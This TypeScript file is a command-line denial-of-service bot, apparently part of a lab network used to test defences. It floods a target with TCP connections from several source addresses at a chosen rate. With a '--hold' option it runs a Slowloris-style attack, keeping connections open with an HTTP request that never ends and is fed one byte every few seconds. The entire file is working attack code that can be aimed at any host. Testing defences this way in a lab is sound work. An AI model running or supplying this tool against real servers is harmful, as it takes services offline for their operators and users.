/**
 * A bot that opens real connections, from each of its addresses in turn.
 *
 *     node dist/topologies/attacks/bot.js --target 10.1.0.100 --port 80 --sources 203.0.113.66 --rate 150 --duration-ms 8000
 *     ... --hold 150      slow connections: so many are kept open, each with a request that never ends
 *
 * Without `--hold`, each asks for nothing and goes away after 10 s: what it costs is the connection. It ends when
 * its time is over; `rate` is in connections a second, and a connection that breaks is opened again at that rate. A target
 * that is a name is looked up for each connection. At the end it says how many it opened, how many of them were completed, and
 * to which addresses they went.
 */
import { connect, isIP, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { pace } from '../probes/probe.ts';
import { resolve } from '../probes/resolve.ts';
import type { BotReport } from './bot-report.ts';

/** How long a connection of a flood stays, if the server does not hang up. */
const STAY_MS = 10_000;
/** Between two bytes of a request that never ends. */
const DRIP_MS = 4_000;
/** At a time: a server that accepts nothing must not exhaust the machine. */
const MOST_OPEN = 5_000;

const { values } = parseArgs({
  options: {
    target: { type: 'string' },
    port: { type: 'string', default: '80' },
    sources: { type: 'string', default: '' },
    rate: { type: 'string' },
    hold: { type: 'string' },
    'duration-ms': { type: 'string' },
  },
});
const target = values.target ?? '';
const sources = values.sources.split(',').filter((text) => text !== '');
const rate = Number(values.rate);
const duration = Number(values['duration-ms']);
const hold = values.hold === undefined ? undefined : Number(values.hold);
if (target === '' || !(rate > 0) || !(duration > 0)) {
  throw new Error(
    'usage: bot --target ADDRESS|NAME --rate N --duration-ms N [--port N] [--sources A,B] [--hold N]',
  );
}

const open = new Set<Socket>();
const addresses = new Set<string>();
let begun = 0;
/** That wait for their target's address. */
let resolving = 0;
let opened = 0;
let completed = 0;

async function begin(): Promise<void> {
  const from = sources[begun++ % sources.length];
  resolving++;
  const host = await resolve(target, 4);
  resolving--;
  if (isIP(host) === 0) return;
  addresses.add(host);
  opened++;
  const socket = connect({
    host,
    port: Number(values.port),
    ...(from === undefined ? {} : { localAddress: from }),
  });
  open.add(socket);
  socket.on('error', () => undefined);
  socket.on('close', () => open.delete(socket));
  socket.on('connect', () => {
    completed++;
    if (hold === undefined) {
      setTimeout(() => socket.destroy(), STAY_MS);
      return;
    }
    socket.write('GET / HTTP/1.1\r\nX: ');
    const drip = setInterval(() => socket.write('x'), DRIP_MS);
    socket.on('close', () => clearInterval(drip));
  });
}

const stop = pace(1000 / rate, () => {
  if (open.size + resolving < (hold ?? MOST_OPEN)) void begin();
});
await sleep(duration);
stop();
for (const socket of open) socket.destroy();
const report: BotReport = { addresses: [...addresses], opened, completed };
process.stdout.write(`${JSON.stringify(report)}\n`);
process.exit(0);
